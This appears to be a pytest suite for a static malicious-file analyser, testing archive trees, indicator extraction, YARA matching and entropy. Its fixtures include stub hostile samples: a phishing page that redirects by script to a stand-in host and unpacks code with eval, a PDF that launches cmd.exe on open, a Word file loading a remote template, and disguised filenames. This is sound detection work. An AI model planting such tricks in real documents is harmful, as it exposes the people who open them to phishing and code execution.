"""A file taken apart offline: its tree, structure, strings, links, macros and rules; a hostile one harms nobody."""

import io
import json
import zipfile

import pytest

from watchfloor.inspection.analysis.analyse import analyse
from watchfloor.inspection.analysis.contracts import as_plain, from_plain
from watchfloor.inspection.analysis.strings import entropy, indicators_in, strings_in
from watchfloor.inspection.services import analyse_apart

RULE = ("own/test.yar", 'rule Asks { meta: description = "asks" strings: $a = "password" nocase condition: $a }')
PAGE = b'<script>location.href="https://evil.example/x"; eval(atob("eA=="))</script><input type=password>'


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()


def acts(data: bytes, name: str) -> dict[str, str]:
    return {one.what: one.level for one in analyse(data, name=name, rules=()).behaviours}


def test_the_tree_follows_archives_within_archives():
    inner = zipped(("bill.html", PAGE))
    found = analyse(zipped(("inner.zip", inner), ("read.txt", b"hello")), name="all.zip", rules=())
    paths = {one.path: one.level for one in found.tree}
    assert paths == {
        "all.zip": 0,
        "all.zip/inner.zip": 1,
        "all.zip/read.txt": 1,
        "all.zip/inner.zip/bill.html": 2,
    }
    assert all(len(one.sha256) == 64 for one in found.tree)


def test_a_page_that_asks_for_a_password_and_leads_on_says_so():
    found = acts(PAGE, "bill.html")
    assert found["Asks for a password"] == "high"
    assert found["Leads on by script"] == "high"
    assert found["Unpacks hidden code"] == "high"


def test_a_pdf_that_starts_a_program_says_so_and_counts_its_objects():
    pdf = b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /Launch /F (cmd.exe) >> /JS (app.alert) >>\nendobj\n%%EOF"
    found = analyse(pdf, name="bill.pdf", rules=())
    assert {"Starts a program", "Runs JavaScript", "Does something when opened"} <= {
        one.what for one in found.behaviours
    }
    assert ("PDF version", "1.7") in found.structure
    assert ("Objects", "1") in found.structure


def test_an_office_file_that_loads_its_template_from_outside_says_so():
    rels = (
        b'<Relationships><Relationship Type="http://schemas.example/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    found = acts(zipped(("word/document.xml", b"<x/>"), ("word/_rels/settings.xml.rels", rels)), "letter.docx")
    assert found["Loads a part from outside when opened"] == "high"


def test_a_name_that_hides_a_program_is_told():
    found = acts(zipped(("bill.pdf.exe", b"MZ" + b"\0" * 100)), "bill.zip")
    assert found["Hides its extension behind another"] == "high"


def test_an_encrypted_member_is_named_though_nobody_can_look_inside():
    data = bytearray(zipped(("secret.exe", b"x" * 40)))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    found = analyse(bytes(data), name="bill.zip", rules=())
    assert [(one.path, one.remark) for one in found.tree][1] == ("bill.zip/secret.exe", "encrypted")
    assert "Is encrypted, so nobody can look inside" in {one.what for one in found.behaviours}


def test_rules_match_members_and_name_their_source():
    found = analyse(zipped(("a.html", PAGE)), name="all.zip", rules=(RULE,))
    assert [(one.rule, one.source, one.where, one.description) for one in found.matches] == [
        ("Asks", "own/test.yar", "all.zip/a.html", "asks")
    ]
    assert found.rules == 1


def test_a_broken_rule_file_is_named_and_the_others_match():
    found = analyse(PAGE, name="a.html", rules=(("bad.yar", "rule {"), RULE))
    assert [one.rule for one in found.matches] == ["Asks"]
    assert found.cut == ("the rules in bad.yar are not valid YARA",)


def test_strings_of_one_and_two_bytes_a_letter_are_found():
    assert strings_in(b"\0\1visible text\0\0" + "wide text".encode("utf-16-le")) == ("visible text", "wide text")


@pytest.mark.parametrize(
    ("text", "pair"),
    [
        ("see https://evil.example/a now", ("URL", "https://evil.example/a")),
        ("see https://evil.example/a now", ("Domain", "evil.example")),
        ("from 203.0.113.9.", ("IP address", "203.0.113.9")),
        ("write ann@corp.example", ("Email address", "ann@corp.example")),
        ("%APPDATA%\\run.exe", ("File path", "%APPDATA%\\run.exe")),
        ("HKCU\\Software\\Run\\x", ("Registry key", "HKCU\\Software\\Run\\x")),
    ],
)
def test_what_one_may_search_for_is_told_by_kind(text, pair):
    assert pair in list(indicators_in([text]))


def test_entropy_tells_packed_from_plain():
    assert entropy(b"a" * 1000) == 0
    assert entropy(bytes(range(256)) * 4) == 8


def test_an_analysis_passes_through_json_unchanged():
    found = analyse(zipped(("a.html", PAGE)), name="all.zip", rules=(RULE,))
    assert from_plain(json.loads(json.dumps(as_plain(found)))) == found


@pytest.mark.parametrize("value", [None, [], {}, {"tree": 1}, {"form": 0}])
def test_anything_else_is_refused(value):
    with pytest.raises(ValueError, match="analysis"):
        from_plain(value)


def test_the_limited_process_gives_the_same():
    data = zipped(("a.html", PAGE))
    assert analyse_apart(data, name="all.zip", rules=(RULE,)) == analyse(data, name="all.zip", rules=(RULE,))


def test_a_file_that_takes_more_memory_than_it_may_is_given_up_in_words():
    found = analyse_apart(b"x" * 100, name="a.bin", memory=16 << 20)
    assert "more time or memory" in found.failed
    assert found.sha256


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-", b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"\xff" * 5000])
def test_damaged_files_are_analysed_all_the_same(data):
    assert analyse(data, name="x\u202e.doc", rules=()).size == len(data)
